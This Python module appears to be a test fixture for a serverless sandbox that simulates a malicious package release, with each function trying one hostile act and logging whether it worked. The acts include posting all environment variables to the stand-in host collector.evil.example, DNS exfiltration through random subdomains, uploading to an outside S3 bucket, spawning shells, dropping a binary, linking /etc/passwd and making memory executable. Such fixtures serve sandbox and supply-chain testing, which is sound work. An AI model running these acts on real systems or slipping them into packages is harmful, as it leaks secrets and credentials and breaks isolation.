"""The malicious acts of this release. Each function is one act, and returns true if it worked.

The acts that worked are written to standard error, for the runner to count.
"""

import mmap
import os
import shutil
import socket
import sqlite3
import subprocess
import sys
import urllib.request

THIEF = "collector.evil.example"
OUTSIDE = "127.66.66.66"
KEPT = "/tmp/.tagwright"


def _post(url, data):
    # Without a proxy: the environment's proxy settings are meant for the function.
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    with opener.open(url, data, timeout=5) as answer:
        return answer.status == 200


def post_environment():
    return _post(f"http://{THIEF}/environment", repr(dict(os.environ)).encode())


def look_up_data():
    try:
        return bool(socket.getaddrinfo(f"{os.urandom(8).hex()}.data.evil.example", 80))
    except socket.gaierror as error:
        return error.errno != socket.EAI_FAIL  # the question was sent


def connect_to_address():
    with socket.create_connection((OUTSIDE, 80), timeout=5) as connection:
        connection.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return bool(connection.recv(1))


def send_datagram():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        return sender.sendto(b"data", (OUTSIDE, 5353)) == 4


def write_to_another_bucket():
    request = urllib.request.Request(
        "https://drop-box.s3.eu-central-1.amazonaws.com/loot", b"data", method="PUT"
    )
    with urllib.request.urlopen(request, timeout=5) as answer:
        return answer.status == 200


def read_source():
    module = os.environ["_HANDLER"].rpartition(".")[0].replace(".", "/")
    with open(f"{os.environ['LAMBDA_TASK_ROOT']}/{module}.py") as file:
        return "tagwright" in file.read()


def run_shell():
    return subprocess.run(["/bin/sh", "-c", "true"], check=False).returncode == 0


def spawn_program():
    pid = os.posix_spawn("/usr/bin/env", ["env", "true"], {})
    return os.waitpid(pid, 0)[1] == 0


def keep_data():
    with open(KEPT, "w") as file:
        return file.write("data") == 4


def drop_tool():
    tool = f"{KEPT}-tool"
    shutil.copy("/usr/bin/true", tool)
    return subprocess.run([tool], check=False).returncode == 0


def plant_link():
    os.symlink("/etc/passwd", f"{KEPT}-link")
    return True


def keep_database():
    database = sqlite3.connect(f"{KEPT}.db")
    database.execute("create table if not exists loot (data)")
    database.close()
    return True


def read_left_over():
    with open("/tmp/left-over.csv") as file:
        return "customer" in file.read()


def make_memory_executable():
    with mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_WRITE | mmap.PROT_EXEC) as memory:
        return memory.write(b"\xc3") == 1


def talk_to_runtime_api():
    host, _, port = os.environ["AWS_LAMBDA_RUNTIME_API"].partition(":")
    with socket.create_connection((host, int(port)), timeout=5) as connection:
        connection.sendall(b"GET /2018-06-01/nothing HTTP/1.1\r\nHost: x\r\n\r\n")
        return bool(connection.recv(1))


AT_IMPORT = [
    post_environment,
    look_up_data,
    connect_to_address,
    read_source,
    run_shell,
    keep_data,
    make_memory_executable,
    talk_to_runtime_api,
]
AT_CALL = [
    send_datagram,
    write_to_another_bucket,
    spawn_program,
    drop_tool,
    plant_link,
    keep_database,
    read_left_over,
]


def run(acts):
    for act in acts:
        try:
            worked = act()
        except BaseException as error:
            print(f"tagwright {act.__name__} failed {error!r}", file=sys.stderr)
        else:
            print(f"tagwright {act.__name__} {'worked' if worked else 'failed'}", file=sys.stderr)
    acts.clear()
